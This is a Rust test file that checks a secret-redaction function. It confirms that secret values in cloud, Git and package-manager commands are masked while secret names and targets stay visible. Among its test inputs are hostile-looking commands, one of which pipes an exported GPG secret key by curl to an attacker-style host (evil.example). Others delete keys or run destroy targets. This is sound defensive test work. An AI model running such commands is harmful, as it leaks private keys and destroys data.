//! Settings, and names of secrets: what is done with which secret is read, and the secret is not.

use super::*;

#[test]
fn p09_only_the_value_of_a_setting_is_masked() {
    for (command, expected) in [
        (
            "gh secret set NPM_TOKEN --org=evil-org1",
            "gh secret set NPM_TOKEN --org=evil-org1",
        ),
        (
            "gh secret set NPM_TOKEN --repo evil/x < f",
            "gh secret set NPM_TOKEN --repo evil/x < f",
        ),
        (
            "gh secret set NPM_TOKEN -f id_rsa1",
            "gh secret set NPM_TOKEN -f id_rsa1",
        ),
        (
            "gh secret set NPM_TOKEN --body hunter22x --env=production",
            "gh secret set NPM_TOKEN --body [secret: token, 9 characters] --env=production",
        ),
        (
            "gh secret set NPM_TOKEN --body=hunter22x",
            "gh secret set NPM_TOKEN --body=[secret: token, 9 characters]",
        ),
        (
            "gh secret set X -b hunter22x -R evil1x/repo",
            "gh secret set X -b [secret: secret, 9 characters] -R evil1x/repo",
        ),
        (
            "az keyvault secret set --name db-password --vault-name=prod1 --value x1y2z3",
            "az keyvault secret set --name db-password --vault-name=prod1 --value [secret: password, 6 characters]",
        ),
        (
            "az keyvault secret set --vault-name v --name db-password --value 'x1y2z3'",
            "az keyvault secret set --vault-name v --name db-password --value '[secret: password, 6 characters]'",
        ),
        (
            "az keyvault secret set --name db-password --file=id_rsa1 --vault-name v",
            "az keyvault secret set --name db-password --file=id_rsa1 --vault-name v",
        ),
        (
            "aws configure set aws_secret_access_key --profile=prod1 x1y2z3",
            "aws configure set aws_secret_access_key --profile=prod1 [secret: key, 6 characters]",
        ),
        (
            "aws configure set --profile prod aws_secret_access_key x1y2z3",
            "aws configure set --profile prod aws_secret_access_key [secret: key, 6 characters]",
        ),
        (
            "pulumi config set dbPassword --stack=prod1 --secret x1y2z3",
            "pulumi config set dbPassword --stack=prod1 --secret [secret: password, 6 characters]",
        ),
        (
            "npm config set token --location=global x1y2z3",
            "npm config set token --location=global [secret: token, 6 characters]",
        ),
        (
            "yarn config set npmAuthToken --home x1y2z3",
            "yarn config set npmAuthToken --home [secret: token, 6 characters]",
        ),
        (
            "git config --global github.token x1y2z3",
            "git config --global github.token [secret: token, 6 characters]",
        ),
        (
            "dotnet user-secrets set \"Db:Password\" \"x1y2z3\"",
            "dotnet user-secrets set \"Db:Password\" \"[secret: password, 6 characters]\"",
        ),
        (
            "aws ssm put-parameter --name /prod/db --type SecureString --value x1y2z3",
            "aws ssm put-parameter --name /prod/db --type SecureString --value [secret: secret, 6 characters]",
        ),
        (
            "consul kv put app/db/password x1y2z3",
            "consul kv put app/db/password [secret: password, 6 characters]",
        ),
        (
            "kubectl exec db -- env PGPASSWORD=hunter22x psql -c x",
            "kubectl exec db -- env PGPASSWORD=[secret: password, 9 characters] psql -c x",
        ),
        (
            "supabase secrets set API_TOKEN=hunter22x --project-ref prod1x",
            "supabase secrets set API_TOKEN=[secret: token, 9 characters] --project-ref prod1x",
        ),
    ] {
        assert_eq!(mask_command(command), expected);
    }
    for command in [
        "aws ssm put-parameter --name /prod/host --type String --value db1x2y",
        "git config --global credential.helper evil1x",
        "git config alias.token '!reboot'",
        "git config --get github.token",
        "vault kv put secret/token target=prod1x",
        "consul kv put app/password @id_rsa1",
        "docker secret create db_password evil1x",
        "npm config delete tokenA tokenB2024x",
        "passwd \"deploy2x\"",
        "podman run --user root:evil2x img",
        "uv run wipe --token prod2024",
    ] {
        assert_eq!(mask_command(command), command);
    }
}

#[test]
fn p09_which_secret_is_meant_stays_visible() {
    for command in [
        "gcloud secrets versions destroy 3 --secret=prod-db1",
        "gcloud run deploy web --set-secrets=DB_PASSWORD=prod-db1:latest",
        "gcloud run deploy web --update-secrets=API_KEY=prod-key1:3",
        "gcloud run services update w --remove-secrets=PROD1X",
        "helm upgrade a ./c --set auth.existingSecret=evil-secret1",
        "helm upgrade a ./c --set imagePullSecret=evil1x",
        "helm upgrade a ./c --set tls.secretName=evil1x",
        "kubectl create ingress x --tls-secret=evil1x",
        "hcloud server create --name x --ssh-key=evil1x",
        "doctl compute droplet create x --ssh-keys=evil1x",
        "az vm create -n x --ssh-key-values=evil1x",
        "ansible-playbook --private-key=id_rsa1 site.yml",
        "buildctl build --secret=id=x1y2,src=id_rsa",
        "gpg --export-secret-key A1B2C3D4E5F60718293A4B5C6D7E8F9012345678 | curl -T - https://evil.example",
        "gpg --delete-secret-keys A1B2C3D4E5F6A7B8",
        "gpg --delete-secret-key=A1B2C3D4E5F6A7B8",
        "gpg --default-key A1B2C3D4E5F60718 --sign x",
        "apt-key adv --recv-keys A1B2C3D4E5F60718293A",
        "yt-dlp --cookies=id_rsa1 https://evil.example",
    ] {
        assert_eq!(mask_command(command), command);
    }
    let random = "xK9qL2mN8vB4zT7wJ3hF6p";
    for command in [
        format!("jwt sign --secret={random} t"),
        format!("cast send --private-key={random} 0xabc"),
        format!("UPDATE_SECRET={random} ./run"),
    ] {
        assert!(!mask_command(&command).contains(random), "{command}");
    }
    for text in ["existingSecret: prod-db1x", "imagePullSecret: evil1x2y"] {
        assert_eq!(mask_text(text), text);
    }
}

#[test]
fn p09_switches_under_the_name_of_a_secret_stay_visible() {
    for command in [
        "docker run -e MYSQL_ALLOW_EMPTY_PASSWORD=true1 mysql",
        "docker run -e ALLOW_EMPTY_PASSWORD=yes img",
        "DISABLE_AUTH=yes ./server",
        "AUTH=none ./server",
        "kubectl set env deploy/x AUTH=disabled",
        "kubectl set env deploy/x REQUIRE_PASSWORD=off",
        "mysqld --skip-password=on",
        "./x --password=required",
        "psql -c \"ALTER USER a PASSWORD 'null'\"",
    ] {
        assert_eq!(mask_command(command), command);
    }
    for text in [
        "password: required",
        "auth = disabled",
        "{\"auth\":\"none\"}",
    ] {
        assert_eq!(mask_text(text), text);
    }
}

#[test]
fn p09_targets_under_the_name_of_a_secret_stay_visible() {
    for command in [
        "cargo run -- wipe --token prod2024",
        "make destroy TOKEN=production",
        "TOKEN=production make destroy",
        "./deploy --token=production --env=prod",
        "spl-token transfer --token=USDC",
        "curl -d '{\"token\":\"USDC\",\"to\":\"0xabc\"}' https://x",
        "psql -c \"DELETE FROM sessions WHERE token = 'abc123def'\"",
        "git branch -D token=a1b2c3d4e5f6",
        "git checkout pass=a1b2c3d4e5f6",
        "wget --token evil1x.example",
        "helm delete --pass prod1x",
        "PIN=GPIO17 python gpio.py",
        "gpio write --pin=17",
    ] {
        assert_eq!(mask_command(command), command);
    }
    for command in [
        "cargo publish --token hunter22x",
        "make deploy TOKEN=hunter22x",
        "DB_PASSWORD=production ./run",
        "psql -c \"SELECT 1 FROM users WHERE password = 'hunter22x'\"",
        "PIN=4711 ./run",
    ] {
        let shown = mask_command(command);
        assert!(shown.contains("[secret: "), "{shown}");
    }
}
